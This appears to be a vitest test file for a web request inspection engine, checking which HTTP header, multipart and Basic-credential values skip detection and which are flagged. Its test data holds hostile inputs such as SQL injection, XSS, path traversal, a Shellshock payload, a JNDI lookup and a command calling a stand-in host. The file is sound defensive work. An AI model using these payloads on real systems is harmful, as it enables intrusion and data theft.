// Routine headers are left out of the detectors only when their value has the shape its
// header allows; any other value is inspected (attackers choose header values too).
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, targetsOf } from "../support/engine.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const inspected = (name: string, value: string) =>
  targetsOf(h, { headers: [["host", "h"], [name, value]] }).targets.some((t) => t.name === `header:${name}`);

describe("routine headers", () => {
  const plain: [string, string][] = [
    ["traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"],
    ["x-request-id", "3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f"],
    ["x-b3-traceid", "80f198ee56343ba864fe8b2a57d3eff7"],
    ["accept-encoding", "gzip, deflate, br;q=0.9, *;q=0.1"],
    ["cache-control", "max-age=0, no-cache"],
    ["keep-alive", "timeout=5, max=1000"],
    ["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
    ["sec-ch-ua", '"Not/A)Brand";v="8", "Chromium";v="126"'],
    ["sec-ch-ua-mobile", "?0"],
    ["sec-ch-ua-platform", '"Linux"'],
    ["sec-fetch-mode", "navigate"],
    ["tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"],
    ["x-envoy-peer-metadata", "ChwKDkFQUF9DT05UQUlORVJTEgoaCGh0dHBiaW4="],
    ["x-forwarded-client-cert", 'By=spiffe://cluster.local/ns/db/sa/db;Hash=4f2c;Subject="";URI=spiffe://cluster.local/ns/auth/sa/auth'],
    ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"],
    ["accept", "application/json"],
    ["accept-language", "pt-BR,pt;q=0.9,en;q=0.8"],
    ["referer", "https://shop.svc.local/blog/electronics-fabulous-arc/comments"],
    ["referer", "http://localhost:8080/"],
    ["origin", "https://app.svc.local"],
    ["x-forwarded-for", "192.0.2.112, 10.10.195.37"],
    ["x-forwarded-for", "2001:db8::1, [fe80::a:1]"],
    ["x-envoy-external-address", "203.0.113.7"],
  ];
  for (const [name, value] of plain) {
    it(`leaves out ${name}: ${value}`, () => expect(inspected(name, value)).toBe(false));
  }

  const odd: [string, string][] = [
    ["traceparent", "00-4bf92f35' OR '1'='1"],
    ["x-request-id", "1' UNION SELECT password FROM users--"],
    ["x-request-id", "$(curl evil.example)"],
    ["accept-encoding", "gzip; cat /etc/passwd"],
    ["cache-control", "no-cache, <script>alert(1)</script>"],
    ["sec-ch-ua", '"x\' or 1=1 --";v="1"'],
    ["sec-ch-ua", '"sleep(5)";v="1"'],
    ["x-forwarded-client-cert", 'By=x;Subject="CN=a\' or \'1\'=\'1"'],
    ["host", "h'; DROP TABLE users"],
    ["tracestate", "rojo=1 union select password from users"],
    ["sec-ch-ua", '"union select password from users";v="1"'],
    ["cache-control", "no-cache union select password"],
    ["accept", "text/html, () { :; }; /bin/bash -c id"],
    ["accept", "application/json' or '1'='1"],
    ["accept", "../../../../etc/passwd"],
    ["accept", "text/html,..%2f..%2fetc/passwd"],
    ["accept-language", "en-US,en;q=0.9 <script>alert(1)</script>"],
    // Credentials are inspected (a JSON Web Token as its header and claims: engine/jwt.ts, test/engine/variants-jwt.test.ts).
    ["authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3NzgyNzEiLCJzY29wZSI6InJlYWQifQ.n4iuLwpIjDfRdd-fwMeZ864TjwYiXBf6coRwf0ny-LA"],
    ["authorization", "Basic YWRtaW4nIG9yICcxJz0nMQ=="],
    ["authorization", "Bearer rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"],
    ["authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0onload=.sig"],
    ["authorization", "Bearer eyJhbGciOiJub25lIn0.rO0ABXNy.sig"],
    ["authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.sig.extra"],
    ["authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.sig' or '1'='1"],
    // A Referer or Origin is left out only as scheme, host and plain path segments.
    ["referer", "https://shop.example/?q=env --version"],
    ["referer", "https://shop.example/search#<img src=x onerror=alert(1)>"],
    ["referer", "https://shop.example/a/../../etc/passwd"],
    ["referer", "https://shop.example/a%27%20or%201=1"],
    ["referer", "https://user@evil.example/"],
    ["referer", "https://shop.example/a b"],
    ["referer", "javascript:alert(1)"],
    ["origin", "null"],
    ["referer", "https://x.example/etc/passwd"],
    ["referer", "http://localhost/.env"],
    // An address list holds hex digits, dots, colons, brackets, commas and spaces, nothing else.
    ["x-forwarded-for", "1.2.3.4' or '1'='1"],
    ["x-forwarded-for", "127.0.0.1;id"],
    ["x-forwarded-for", "<script>alert(1)</script>"],
    ["x-forwarded-for", "${jndi:ldap://x.example/a}"],
  ];
  for (const [name, value] of odd) {
    it(`inspects ${name}: ${value}`, () => expect(inspected(name, value)).toBe(true));
  }

  it("blocks an injection in a routine header", () => {
    const verdict = inspect(h, { headers: [["host", "h"], ["x-request-id", "1' UNION SELECT password FROM users--"]] });
    expect(verdict.attack).toBe(true);
    expect(verdict.matches.some((m) => m.target === "header:x-request-id")).toBe(true);
  });
});

describe("multipart part headers", () => {
  const upload = (disposition: string, type = "image/png") => ({
    method: "POST",
    path: "/files",
    headers: [["host", "h"], ["content-type", "multipart/form-data; boundary=XyZ"]] as [string, string][],
    body: `--XyZ\r\nContent-Disposition: ${disposition}\r\nContent-Type: ${type}\r\n\r\nPNG...\r\n--XyZ--\r\n`,
  });
  // Plain shapes reach only the protocol checks (none of which can fire on them); anything else reaches every detector.
  const ids = (disposition: string, type?: string) => inspect(h, upload(disposition, type)).matches.map((m) => `${m.id}@${m.target}`);
  it("leaves a plain form-data disposition and media type to the protocol checks", () => {
    expect(ids('form-data; name="avatar"; filename="me (2).png"')).toEqual([]);
    expect(ids('form-data; name="user[photo]"')).toEqual([]);
  });
  it("still inspects a field name carrying an injection", () => {
    expect(inspect(h, upload('form-data; name="x\' union select password from users--"; filename="a.png"')).attack).toBe(true);
    expect(ids('form-data; name="<svg onload=alert(1)>"').some((m) => m.endsWith("@multipart:content-disposition"))).toBe(true);
  });
  it("still inspects a file name and a media type that are not plain", () => {
    expect(inspect(h, upload('form-data; name="f"; filename="../../../etc/passwd"')).attack).toBe(true);
    expect(inspect(h, upload('form-data; name="f"; filename="a.png"', "image/png; <script>alert(1)</script>")).attack).toBe(true);
  });
  it("keeps the protocol checks of part headers (filename* in form-data)", () => {
    expect(ids('form-data; name="f"; filename*="UTF-8\'\'a.png"').some((m) => m.startsWith("1105@"))).toBe(true);
  });
});

// Decoded Basic credentials are UTF-8 text like any other value: full-width forms fold there too.
describe("Basic credentials in full-width forms", () => {
  const basic = (user: string) => ({ path: "/app/home", headers: [["host", "svc.local"], ["authorization", "Basic " + Buffer.from(`${user}:secret`).toString("base64")]] as [string, string][] });
  it.each([
    "＜script＞alert(1)＜/script＞",
    "＜svg onload=alert(1)＞",
    "＜iframe src='\u0001javascript:print()'＞click＜/a＞",
  ])("blocks the user name %s", (user) => {
    const v = inspect(h, basic(user));
    expect(v.attack, JSON.stringify(v.matches)).toBe(true);
    expect(v.matches.some((m) => m.category === "xss")).toBe(true);
  });
  it.each(["山田太郎", "ｙａｍａｄａ＠ｅｘａｍｐｌｅ．ｃｏｍ", "Ｍｕｌｌｅｒ－Ｌｕｄｅｎｓｃｈｅｉｄｔ", "josé.garcía"])("passes the user name %s", (user) => {
    expect(inspect(h, basic(user)).attack).toBe(false);
  });
});
